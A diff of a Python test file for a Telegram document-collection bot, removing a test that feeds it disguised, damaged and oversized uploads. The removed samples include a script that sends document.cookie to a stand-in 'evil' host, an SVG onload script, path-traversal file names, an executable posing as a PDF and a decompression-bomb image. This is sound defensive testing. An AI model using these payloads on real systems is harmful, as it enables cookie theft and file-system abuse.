@@ -10,8 +10,6 @@ from __future__ import annotations
 import asyncio
 import threading
 from collections.abc import Iterator
-from io import BytesIO
-from pathlib import Path
 from typing import Any
 
 import pytest
@@ -25,14 +23,10 @@ from bot.i18n import translator
 from emulator import BotAPIEmulator, FakeMessage
 from tests.conftest import NOW, BotRunner
 from tests.e2e import (
-    JPEG,
-    PDF,
     applicant_who_submitted,
-    at_documents,
     button_for,
     nav,
     snapshot,
-    upload,
 )
 from tests.test_languages import problems_in
 
@@ -246,67 +240,6 @@ async def test_a_corpus_of_hostile_updates(bot: BotRunner, emulator: BotAPIEmula
     # And the bot still works.
     again = await people[0].say("/start")
     assert again and not any("Traceback" in m.plain for m in again)
-
-
-# --- hostile uploads: the content decides, never the name or the declared type ------------------------
-
-
-def _png(size: tuple[int, int], mode: str = "RGB") -> bytes:
-    from PIL import Image
-
-    out = BytesIO()
-    Image.new(mode, size).save(out, "PNG")
-    return out.getvalue()
-
-
-DAMAGED = "cannot be opened"
-WRONG_TYPE = "Please send a PDF or a photo (JPG or PNG)"
-TOO_LARGE = "too large to open"
-HOSTILE_FILES = [
-    # (content, file name, declared type, the refusal)
-    (
-        b"<html><body><script>fetch('//evil/'+document.cookie)</script></body></html>",
-        "passport.pdf",
-        "application/pdf",
-        WRONG_TYPE,
-    ),
-    (
-        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
-        "../../../etc/degree.svg",
-        "image/svg+xml",
-        WRONG_TYPE,
-    ),
-    (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "degree.png", "image/png", WRONG_TYPE),
-    (b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 200, "passport.pdf", "application/pdf", WRONG_TYPE),
-    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200, "contract.pdf.exe", "application/pdf", WRONG_TYPE),
-    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200, "..\\..\\passport.jpg", "image/jpeg", WRONG_TYPE),
-    (PDF[: len(PDF) * 2 // 3], "passport.pdf", "application/pdf", DAMAGED),
-    (JPEG[: len(JPEG) // 2], "passport.jpg", "image/jpeg", DAMAGED),
-    (_png((12_000, 12_000), "1"), "passport.png", "image/png", TOO_LARGE),  # 144 MP in a few KB
-]
-
-
-async def test_disguised_damaged_and_oversized_files_are_refused(
-    bot: BotRunner, emulator: BotAPIEmulator, settings: Settings
-) -> None:
-    user = await at_documents(emulator, 975, "passport_copy")
-    for content, name, mime, refusal in HOSTILE_FILES:
-        replies = await upload(user, emulator, content, name, mime)
-        assert refusal in replies[0].plain and "0 of 3 documents" in replies[0].plain, (name, replies[0].plain)
-    # The same as photos (Telegram's compressed pictures): a bomb and a cut JPEG.
-    for content, refusal in ((_png((12_000, 12_000), "1"), TOO_LARGE), (JPEG[:200], DAMAGED)):
-        before = len(user.messages)
-        await emulator.wait_processed(await user.send_photo(content))
-        assert refusal in user.messages[before].plain, user.messages[before].plain
-    assert_clean("en", user.messages)
-    files = Path(settings.files_dir)
-    assert snapshot(settings)["documents"] == [] and not [p for p in files.rglob("*") if p.is_file()]
-    # A real PDF under a hostile name is taken: stored inside FILES_DIR under a name of the bot's.
-    saved = await upload(user, emulator, PDF, "../../../../tmp/passport.pdf", "application/pdf")
-    assert "Saved" in saved[0].plain
-    stored = [p for p in files.rglob("*") if p.is_file()]
-    assert len(stored) == 1 and stored[0].parent.parent == files and stored[0].suffix == ".bin"
-    assert not list(files.parent.rglob("passport.pdf"))
 
 
 # --- hypothesis: random texts and callback data against one running bot -----------------------------
